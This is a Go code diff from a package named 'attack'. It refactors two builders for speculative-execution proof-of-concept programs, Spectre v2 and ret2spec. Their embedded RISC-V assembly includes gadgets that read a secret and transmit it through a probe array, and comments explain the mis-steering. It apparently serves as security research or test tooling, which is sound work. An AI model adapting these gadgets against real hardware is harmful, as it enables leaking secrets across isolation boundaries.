@@ -13,7 +13,7 @@ package attack
 // (flushed): the front end speculates into the gadget, which reads the
 // secret and transmits it through the probe array before the indirect call
 // resolves and squashes.
-func specSpectreV2() (*spec, error) {
+func specSpectreV2() *poc {
 	src := `
         .data
         .org 0x100000
@@ -70,11 +70,7 @@ gadget: lbu  t3, (a1)        # ACCESS
         lbu  t5, (t4)        # TRANSMIT
         ret
 `
-	return &spec{
-		prog:        mustBuild(src),
-		resultsAddr: 0x240000,
-		threshold:   40,
-	}, nil
+	return newPoC(src, 40)
 }
 
 // specRet2spec builds a return-stack-buffer mis-steering PoC (ret2spec /
@@ -83,7 +79,7 @@ gadget: lbu  t3, (a1)        # ACCESS
 // after a long dependency chain. The RAS still predicts the original call
 // site, whose following instructions are the disclosure gadget: the gadget
 // runs on the wrong path for the whole window and transmits the secret.
-func specRet2spec() (*spec, error) {
+func specRet2spec() *poc {
 	src := `
         .data
         .org 0x100000
@@ -122,9 +118,5 @@ victim: la   t0, far
         add  ra, t1, t2      # ra = cont, resolved very late
         ret                  # RAS predicts main's call site -> gadget runs
 `
-	return &spec{
-		prog:        mustBuild(src),
-		resultsAddr: 0x240000,
-		threshold:   40,
-	}, nil
+	return newPoC(src, 40)
 }
